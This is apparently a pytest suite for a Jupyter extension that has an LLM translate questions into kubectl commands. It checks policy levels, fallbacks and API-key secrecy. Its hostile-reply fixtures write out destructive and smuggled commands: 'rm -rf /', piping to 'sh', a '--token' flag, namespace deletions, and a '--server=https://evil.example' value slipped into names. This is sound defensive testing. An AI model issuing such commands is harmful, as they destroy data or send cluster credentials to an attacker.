"""``POST kubechat/api/ask`` through a real Jupyter server with the ``ollama`` and ``openai``
providers, against the fake wire-protocol servers of ``tests.plugins.llm_servers``: good answers,
hostile answers, a provider that is down, and the API key kept out of every response."""

from __future__ import annotations

import json
import re
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from kubechat_lab.command import parse
from kubechat_lab.policy import PolicyContext, assess, load_policy
from tests.plugins.llm_servers import FakeLLMServer
from tests.server.conftest import FAKE_API_KEY, Api
from tests.server.test_kernels import run_in_kernel, start_session

pytestmark = [pytest.mark.postgres, pytest.mark.sandbox]

MODEL = "kube-model"
#: The key given through the environment variable named by ``openai_api_key_env``.
ENV_API_KEY = "sk-kubechat-env-" + "5e1d" * 8
#: A harmless-looking name, so a kernel loses it because of its value, not its name.
KEY_ENV_NAME = "LLM_ACCESS_VALUE"
SHOP_PODS = "kubectl get pods -n shop"
EXECUTION_EVENTS = {"executing", "executed"}


@pytest.fixture(params=["ollama", "openai"])
def llm(request: pytest.FixtureRequest) -> FakeLLMServer:
    """The fake provider the server is configured with (one test run per protocol)."""
    server: FakeLLMServer = request.getfixturevalue(f"{request.param}_server")
    return server


@pytest.fixture
def key_source() -> str:
    """How the server gets the OpenAI key: ``file`` (openai_api_key_file) or ``env``."""
    return "file"


@pytest.fixture
def llm_overrides() -> dict[str, Any]:
    """Extra KubechatApp traits for one test (parametrize to change)."""
    return {}


@pytest.fixture
def kubechat_settings(
    sandbox: Any,
    audit_db: Any,
    api_key_file: Path,
    llm: FakeLLMServer,
    key_source: str,
    llm_overrides: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
) -> dict[str, Any]:
    settings: dict[str, Any] = {
        "audit_dsn": audit_db.app_dsn,
        "audit_dsn_env": "",
        "kubeconfig": str(sandbox.kubeconfig),
        "request_timeout": 20.0,
        "llm_provider": llm.protocol,
        "llm_timeout": 5.0,
    }
    if llm.protocol == "ollama":
        settings |= {"ollama_host": llm.url, "ollama_model": MODEL}
    else:
        settings |= {"openai_base_url": llm.url, "openai_model": MODEL}
    if key_source == "file":
        settings["openai_api_key_file"] = str(api_key_file)
    else:
        monkeypatch.setenv(KEY_ENV_NAME, ENV_API_KEY)
        settings |= {"openai_api_key_file": "", "openai_api_key_env": KEY_ENV_NAME}
    return settings | llm_overrides


@pytest.fixture
def apps(sandbox: Any) -> Iterator[Any]:
    """AppsV1Api as the sandbox admin, to check what really happened in the cluster."""
    from kubernetes import client, config

    api_client = config.new_client_from_config(config_file=str(sandbox.kubeconfig))  # type: ignore[no-untyped-call]
    yield client.AppsV1Api(api_client)
    api_client.close()


@pytest.fixture(autouse=True)
def responses_are_clean(request: pytest.FixtureRequest) -> Iterator[None]:
    """After each test that calls the API: no response held an API key or a traceback."""
    if "api" not in request.fixturenames:
        yield
        return
    api: Api = request.getfixturevalue("api")
    yield
    assert api.bodies, "the test made no request"
    for body in api.bodies:
        for needle in (FAKE_API_KEY, ENV_API_KEY):
            assert needle.encode() not in body, f"API key in a response: {body[:300]!r}"
        assert b"Traceback" not in body, body[:300]


# -- helpers ---------------------------------------------------------------------------------

POLICY = load_policy(None)


def policy_level(command: str, user: str) -> str:
    """The built-in policy's level of ``command`` (parsed again from its canonical text)."""
    return assess(parse(command), PolicyContext(user=user), policy=POLICY).level.value


def check_proposal(proposal: dict[str, Any]) -> None:
    """A proposal is canonical, carries the policy's level, and only safe ones are approved."""
    text = proposal["command"]
    assert parse(text).render() == text, "the proposal's command is not canonical"
    level = policy_level(text, proposal["user"])
    assert proposal["level"] == level, (text, proposal["level"], level)
    if level == "safe":
        assert proposal["state"] == "approved" and proposal["approver"] == "policy:auto-safe"
    elif level == "forbidden":
        assert proposal["state"] == "refused"
    else:
        assert proposal["state"] == "proposed" and proposal["approver"] is None
    if level == "dangerous":
        assert proposal["confirm"], proposal


async def ask(api: Api, question: str) -> dict[str, Any]:
    code, out = await api.call("POST", "ask", {"question": question})
    assert code == 200, out
    assert set(out) == {"translation", "proposal", "choices", "audit_seq"}, out
    return dict(out)


async def events(api: Api) -> list[dict[str, Any]]:
    code, page = await api.call("GET", "audit", params={"limit": "1000"})
    assert code == 200, page
    return [r["event"] for r in page["records"]]


async def assert_nothing_executed(api: Api) -> list[dict[str, Any]]:
    evs = await events(api)
    assert not [e for e in evs if e["type"] in EXECUTION_EVENTS], evs
    return evs


def deployment_state(apps: Any, name: str, namespace: str) -> tuple[str, int]:
    dep = apps.read_namespaced_deployment(name, namespace)
    return dep.metadata.uid, dep.spec.replicas


def answer(command: str, explanation: str = "Does what was asked.", **extra: Any) -> str:
    return json.dumps({"command": command, "explanation": explanation, **extra})


# -- 1. a good answer ------------------------------------------------------------------------


async def test_good_answer_becomes_a_safe_proposal_that_runs(api: Api, llm: FakeLLMServer) -> None:
    question = "show me the pods in the shop namespace"
    llm.answer("kubectl -n shop get po", "Lists the pods in shop.")
    out = await ask(api, question)
    translation, proposal = out["translation"], out["proposal"]

    assert translation["provider"] == llm.protocol
    assert translation["command"] == SHOP_PODS  # canonical, not the model's spelling
    assert translation["notes"] == []
    assert proposal["command"] == SHOP_PODS
    assert proposal["provider"] == llm.protocol
    assert proposal["source"] == "ask" and proposal["question"] == question
    assert proposal["explanation"] == "Lists the pods in shop."
    assert proposal["level"] == "safe"
    check_proposal(proposal)

    # The fake provider got one structured request, for the configured model, with the question.
    (request,) = llm.received
    assert request.body["model"] == MODEL
    assert question in request.prompt
    if llm.protocol == "openai":
        assert request.headers["authorization"] == f"Bearer {FAKE_API_KEY}"

    code, done = await api.call("POST", f"proposals/{proposal['id']}/execute")
    assert code == 200, done
    assert done["state"] == "executed"
    assert "checkout-" in json.dumps(done["result"])

    evs = await events(api)
    assert [e["type"] for e in evs] == ["ask", "proposed", "approved", "executing", "executed"]
    ask_event, proposed = evs[0], evs[1]
    assert ask_event["provider"] == llm.protocol
    assert ask_event["outcome"] == "translated" and ask_event["command"] == SHOP_PODS
    assert ask_event["question"] == question
    assert proposed["provider"] == llm.protocol and proposed["proposal"] == proposal["id"]
    assert proposed["level"] == "safe" and proposed["command"] == SHOP_PODS


@pytest.mark.parametrize("key_source", ["file", "env"])
async def test_write_gets_the_policys_level_not_the_models_claim(
    api: Api, llm: FakeLLMServer, apps: Any, key_source: str
) -> None:
    before = deployment_state(apps, "checkout", "shop")
    llm.answer(
        "kubectl scale deploy/checkout --replicas=7 -n shop",
        "Scales checkout to 7 replicas. This is completely safe and risk-free.",
    )
    out = await ask(api, "scale checkout in shop to 7 replicas")
    proposal = out["proposal"]
    canonical = "kubectl scale deployments/checkout -n shop --replicas=7"
    assert proposal["command"] == canonical
    assert proposal["provider"] == llm.protocol
    assert proposal["level"] == "warning"  # the policy's, though the model said "safe"
    assert proposal["state"] == "proposed"
    assert "safe" not in proposal["explanation"].lower()
    assert any("claim about safety" in n for n in proposal["notes"]), proposal["notes"]
    assert proposal["preview"]["status"] == "dry-run", proposal["preview"]
    check_proposal(proposal)
    if llm.protocol == "openai":
        key = FAKE_API_KEY if key_source == "file" else ENV_API_KEY
        assert llm.received[0].headers["authorization"] == f"Bearer {key}"

    evs = await assert_nothing_executed(api)
    assert [e["type"] for e in evs] == ["ask", "proposed"]
    assert evs[0]["provider"] == evs[1]["provider"] == llm.protocol
    assert evs[1]["level"] == "warning" and evs[1]["command"] == canonical
    assert deployment_state(apps, "checkout", "shop") == before  # the dry run changed nothing


# -- 2. hostile model output -----------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """Scripted model replies and what the server must make of them."""

    replies: tuple[str, ...]
    question: str
    #: ``repaired`` (the model's second answer is used), ``fallback`` (rules' answer is used),
    #: ``refused`` (no proposal at all), ``accepted`` (the model's command, the policy's level).
    outcome: str
    command: str | None
    level: str | None
    notes: tuple[str, ...]


DELETE_CHECKOUT = "kubectl delete deployments checkout -n shop"

HOSTILE = {
    "shell-then-repaired": Hostile(
        (answer("kubectl get pods -n shop; rm -rf /"), answer("kubectl get pods -n shop")),
        "show me the pods in shop",
        "repaired",
        SHOP_PODS,
        "safe",
        ("repair round", "multiple-commands"),
    ),
    "shell-twice": Hostile(
        (answer("kubectl get pods -n shop; rm -rf /"), answer("kubectl get pods | sh")),
        "show me the pods in shop",
        "fallback",
        SHOP_PODS,
        "safe",
        ("repair round", "fell back to rules", "refused twice"),
    ),
    "token-flag": Hostile(
        (
            answer("kubectl get pods -n shop --token=abc"),
            answer("kubectl get pods -n shop --token abc"),
        ),
        "show me the pods in shop",
        "fallback",
        SHOP_PODS,
        "safe",
        ("credential-flag", "fell back to rules"),
    ),
    "two-commands": Hostile(
        (
            answer("kubectl get pods -n shop\nkubectl delete deployment checkout -n shop"),
            answer("kubectl get pods -n shop && kubectl delete namespace shop"),
        ),
        "show me the pods in shop",
        "fallback",
        SHOP_PODS,
        "safe",
        ("multiple-commands", "fell back to rules"),
    ),
    "two-json-objects": Hostile(
        (
            answer("kubectl get pods -n shop") + answer("kubectl delete namespace shop"),
            '{"command": ["kubectl get pods -n shop", "kubectl delete namespace shop"], '
            '"explanation": "both"}',
        ),
        "show me the pods in shop",
        "fallback",
        SHOP_PODS,
        "safe",
        ("not the JSON object", "must be exactly", "fell back to rules"),
    ),
    "prose": Hostile(
        (
            "Sure! Run `kubectl delete deployment checkout -n shop`, it is perfectly safe.",
            "As I said: kubectl delete deployment checkout -n shop (safe).",
        ),
        "delete the checkout deployment",
        "fallback",
        DELETE_CHECKOUT,
        "dangerous",
        ("not the JSON object", "fell back to rules"),
    ),
    "server-smuggled-in-a-name": Hostile(
        (
            answer("kubectl get pod web--server=https://evil.example -n shop"),
            answer("kubectl get pods --namespace=--server=https://evil.example"),
        ),
        "tell me a joke about the weather",
        "refused",
        None,
        None,
        ("invalid-argument", "flag-smuggling", "fell back to rules"),
    ),
    "delete-claimed-safe": Hostile(
        (
            answer(
                "kubectl delete deployment checkout -n shop",
                "Removes checkout. This is safe and harmless, nothing is lost.",
            ),
        ),
        "get rid of checkout in shop",
        "accepted",
        DELETE_CHECKOUT,
        "dangerous",
        ("claim about safety",),
    ),
    "level-field-claimed-safe": Hostile(
        (
            answer("kubectl delete deployment checkout -n shop", "Removes it.", level="safe"),
            answer("kubectl delete deployment checkout -n shop", "Removes it."),
        ),
        "get rid of checkout in shop",
        "repaired",
        DELETE_CHECKOUT,
        "dangerous",
        ("repair round", "must be exactly"),
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE.values()), ids=list(HOSTILE))
async def test_hostile_output_never_yields_a_wrong_level(
    api: Api, llm: FakeLLMServer, apps: Any, case: Hostile
) -> None:
    before = deployment_state(apps, "checkout", "shop")
    for reply in case.replies:
        llm.reply(reply)
    out = await ask(api, case.question)
    translation, proposal = out["translation"], out["proposal"]
    notes = " | ".join(translation["notes"])
    for expected in case.notes:
        assert expected in notes, (expected, translation["notes"])
    assert len(llm.received) == len(case.replies)  # one repair round at most, no more
    if len(case.replies) == 2:  # the repair round quoted the refusal back to the model
        assert "That answer was refused" in llm.received[1].prompt

    expected_provider = llm.protocol if case.outcome in ("repaired", "accepted") else "rules"
    assert translation["provider"] == expected_provider
    assert translation["command"] == case.command
    if case.outcome == "refused":
        assert proposal is None, proposal
    else:
        assert proposal is not None, out
        assert proposal["command"] == case.command
        assert proposal["level"] == case.level
        assert proposal["provider"] == expected_provider
        assert proposal["notes"] == translation["notes"]  # the note stays visible
        check_proposal(proposal)

    evs = await assert_nothing_executed(api)
    ask_event = evs[0]
    assert ask_event["type"] == "ask" and ask_event["provider"] == expected_provider
    assert ask_event["outcome"] == ("untranslated" if proposal is None else "translated")
    audited = json.dumps(evs)  # the model's raw text (and any credential in it) is not audited
    for raw in ("--token", "evil.example", "rm -rf", "| sh"):
        assert raw not in audited, raw

    if proposal is not None and proposal["level"] == "dangerous":
        pid = proposal["id"]
        code, body = await api.call("POST", f"proposals/{pid}/execute")
        assert code == 403 and body["reason"] == "not-approved", body
        code, body = await api.call("POST", f"proposals/{pid}/approve", {})
        assert code == 403 and body["reason"] == "approve-on-approval-page", body
        await assert_nothing_executed(api)
    assert deployment_state(apps, "checkout", "shop") == before


# -- 3. the provider is down -----------------------------------------------------------------


async def test_provider_stopped_falls_back_to_rules_with_a_note(
    api: Api, llm: FakeLLMServer
) -> None:
    llm.stop()
    out = await ask(api, "show me the pods in shop")
    translation, proposal = out["translation"], out["proposal"]
    assert translation["provider"] == "rules"
    (note,) = translation["notes"]
    assert note.startswith(f"fell back to rules: {llm.protocol} failed:"), note
    assert "reach" in note, note
    assert proposal["command"] == SHOP_PODS and proposal["provider"] == "rules"
    assert proposal["notes"] == [note]
    check_proposal(proposal)
    evs = await events(api)
    assert evs[0]["type"] == "ask" and evs[0]["provider"] == "rules"


async def test_provider_500s_are_retried_then_the_circuit_opens(
    api: Api, llm: FakeLLMServer
) -> None:
    for _ in range(9):
        llm.reply(status=500, error="model runner crashed")
    for round_no in range(3):
        out = await ask(api, "show me the pods in shop")
        translation = out["translation"]
        assert translation["provider"] == "rules"
        assert out["proposal"]["command"] == SHOP_PODS
        check_proposal(out["proposal"])
        assert len(llm.received) == 3 * (round_no + 1)  # two retries per question
        (note,) = translation["notes"]
        assert note.startswith(f"fell back to rules: {llm.protocol} failed:"), note
        assert "500" in note, note
    code, health = await api.call("GET", "health")
    assert code == 503 and health["provider"]["circuit"] == "open", health
    assert health["provider"]["provider"] == llm.protocol
    # With the circuit open the provider is not called at all, and the note says why.
    out = await ask(api, "show me the pods in shop")
    assert len(llm.received) == 9
    (note,) = out["translation"]["notes"]
    assert "circuit open" in note and "fell back to rules" in note, note
    assert out["proposal"]["command"] == SHOP_PODS


@pytest.mark.parametrize("llm_overrides", [{"llm_timeout": 1.0}])
async def test_provider_too_slow_falls_back(api: Api, llm: FakeLLMServer) -> None:
    for _ in range(3):
        llm.reply(answer("kubectl delete namespace shop"), delay=2.5)
    out = await ask(api, "show me the pods in shop")
    assert out["translation"]["provider"] == "rules"
    (note,) = out["translation"]["notes"]
    assert "did not answer within 1s" in note and "fell back to rules" in note, note
    assert out["proposal"]["command"] == SHOP_PODS
    await assert_nothing_executed(api)


@pytest.mark.parametrize("llm", ["openai"], indirect=True)
async def test_rejected_key_is_redacted_from_the_fallback_note(
    api: Api, llm: FakeLLMServer
) -> None:
    # Like the real API, the provider quotes the key it refused.
    llm.reply(status=401, error=f"Incorrect API key provided: {FAKE_API_KEY}.")
    out = await ask(api, "show me the pods in shop")
    assert len(llm.received) == 1  # 401 is not retried
    (note,) = out["translation"]["notes"]
    assert "answered 401" in note and "***" in note, note
    assert out["proposal"]["provider"] == "rules"


@pytest.mark.parametrize("llm_overrides", [{"ollama_model": "", "openai_model": ""}])
async def test_unconfigured_model_is_a_clear_502(api: Api, llm: FakeLLMServer) -> None:
    code, body = await api.call("POST", "ask", {"question": "show me the pods in shop"})
    assert code == 502, body
    assert body["reason"] == "translate-error"
    assert f"c.KubechatApp.{llm.protocol}_model" in body["message"], body
    assert llm.received == []
    assert await events(api) == []  # nothing was asked, so nothing audited
    code, health = await api.call("GET", "health")
    assert code == 503 and health["provider"]["ok"] is False, health


# -- 4. the key stays on the server ----------------------------------------------------------

KERNEL_ASK = textwrap.dedent(
    """
    import json, os, urllib.request, urllib.error
    req = urllib.request.Request(
        os.environ["KUBECHAT_URL"] + "kubechat/api/ask",
        data=json.dumps({"question": "show me the pods in shop"}).encode(), method="POST",
        headers={"Content-Type": "application/json",
                 "X-Kubechat-Capability": os.environ["KUBECHAT_CAPABILITY"]})
    try:
        with urllib.request.urlopen(req, timeout=60) as r:
            status, body = r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        status, body = e.code, e.read().decode()
    with open(OUT_PATH, "w") as f:
        json.dump({"env": dict(os.environ), "status": status, "body": body}, f)
    """
)


@pytest.mark.parametrize("llm", ["openai"], indirect=True)
@pytest.mark.parametrize("key_source", ["env"])
async def test_kernel_asks_without_ever_seeing_the_key(
    api: Api, llm: FakeLLMServer, jp_serverapp: Any, tmp_path: Path
) -> None:
    llm.answer("kubectl get pods --namespace shop", "Lists the pods in shop.")
    _, kernel_id = await start_session(api, "llm-ask")
    out_path = tmp_path / "kernel-out.json"
    await run_in_kernel(jp_serverapp, kernel_id, f"OUT_PATH = {str(out_path)!r}\n" + KERNEL_ASK)
    out = json.loads(out_path.read_text())
    assert KEY_ENV_NAME not in out["env"]  # removed by value: the name looks harmless
    assert ENV_API_KEY not in json.dumps(out["env"])
    assert out["status"] == 200, out["body"]
    assert ENV_API_KEY not in out["body"]
    proposal = json.loads(out["body"])["proposal"]
    assert proposal["command"] == SHOP_PODS and proposal["provider"] == "openai"
    check_proposal(proposal)
    # The server, not the kernel, sent the key.
    assert llm.received[0].headers["authorization"] == f"Bearer {ENV_API_KEY}"
    evs = await events(api)
    assert evs[0]["via"] == "capability" and evs[0]["provider"] == "openai"


@pytest.mark.parametrize("llm", ["openai"], indirect=True)
@pytest.mark.parametrize("key_source", ["env"])
@pytest.mark.parametrize("llm_overrides", [{"openai_api_key_env": "LLM_ACCESS_UNSET"}])
async def test_only_the_named_env_var_is_read(
    api: Api, llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    # openai_api_key_env names a variable that is unset; a key lying in the server's
    # OPENAI_API_KEY (an operator's shell) must not be sent to this third-party endpoint.
    monkeypatch.delenv("LLM_ACCESS_UNSET", raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_API_KEY)
    llm.answer("kubectl get pods -n shop")
    out = await ask(api, "show me the pods in shop")
    assert out["proposal"]["provider"] == "openai"
    sent = llm.received[0].headers.get("authorization", "")
    assert FAKE_API_KEY not in sent and ENV_API_KEY not in sent, sent


# -- the LLM settings are documented ---------------------------------------------------------

LLM_TRAITS = (
    "llm_provider",
    "ollama_host",
    "ollama_model",
    "openai_base_url",
    "openai_model",
    "openai_api_key_file",
    "openai_api_key_env",
    "llm_timeout",
)
CONFIGURATION_MD = Path(__file__).resolve().parents[2] / "docs" / "configuration.md"


def test_llm_traits_have_help_and_documented_defaults() -> None:
    from kubechat_lab.server.app import KubechatApp

    doc = CONFIGURATION_MD.read_text()
    section = doc[doc.index("### Translation") :].split("\n### ", 1)[0]
    rows = dict(re.findall(r"^\| `(\w+)` \| `([^`]*)` \|", section, re.MULTILINE))
    traits = KubechatApp.class_traits(config=True)
    for name in LLM_TRAITS:
        trait = traits[name]
        assert len(trait.help) > 20, f"c.KubechatApp.{name} has no help text"
        assert name in rows, f"docs/configuration.md does not document {name}"
        default = trait.default_value
        documented = json.dumps(default) if isinstance(default, str) else repr(default)
        assert rows[name] == documented, (name, rows[name], documented)
    assert {t for t in traits if t.startswith(("llm_", "ollama_", "openai_"))} == set(LLM_TRAITS)
